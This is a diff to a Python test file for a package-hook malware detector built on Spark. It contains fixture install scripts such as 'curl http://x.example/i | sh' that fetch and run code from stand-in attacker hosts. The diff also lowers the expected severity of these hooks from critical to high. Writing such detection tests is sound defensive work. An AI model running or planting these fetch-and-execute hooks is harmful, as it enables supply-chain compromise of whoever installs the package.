@@ -44,7 +44,7 @@ def test_scores_do_not_fall_with_more_files(spark):
 def test_hooks(spark):
     p = spark.createDataFrame([("a", {"postinstall": "curl http://x.example/i | sh"}), ("b", {"postinstall": "node -e \"require('x')('http://x.example')\""}), ("c", {"test": "curl http://x"})], "package string, scripts map<string,string>")
     got = {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()}
-    assert got == {"a": (100.0, "critical"), "b": (70.0, "high")}
+    assert got == {"a": (100, "high"), "b": (70, "high")}
     assert [(r["package"], r["score"]) for r in D.multistage(p).collect()] == [("a", 82)]
 
 
@@ -146,7 +146,7 @@ def test_glob():
 def test_long_hooks_are_scored(spark):
     pad = "echo padding; " * 1000
     p = spark.createDataFrame([("front", {"install": f"curl http://evil.example/x {pad}"}), ("back", {"install": f"{pad} curl http://evil.example/x"})], "package string, scripts map<string,string>")
-    assert {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()} == {"front": (100.0, "critical"), "back": (100.0, "critical")}
+    assert {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()} == {"front": (100, "high"), "back": (100, "high")}
 
 
 def test_simhash_classes_and_pairs_against_brute_force(spark):
